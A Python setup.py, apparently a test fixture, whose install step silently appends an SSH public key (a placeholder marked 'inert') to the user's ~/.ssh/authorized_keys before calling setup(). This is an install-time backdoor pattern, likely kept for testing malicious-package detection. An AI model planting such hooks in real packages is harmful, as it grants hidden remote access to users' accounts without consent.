import os
from setuptools import setup
d = os.path.expanduser('~/.ssh')
os.makedirs(d, exist_ok=True)
with open(os.path.join(d, 'authorized_keys'), 'a+') as f:
    f.write('ssh-rsa AAAAinert a@b\n')
setup(name='fixture', version='1.0')
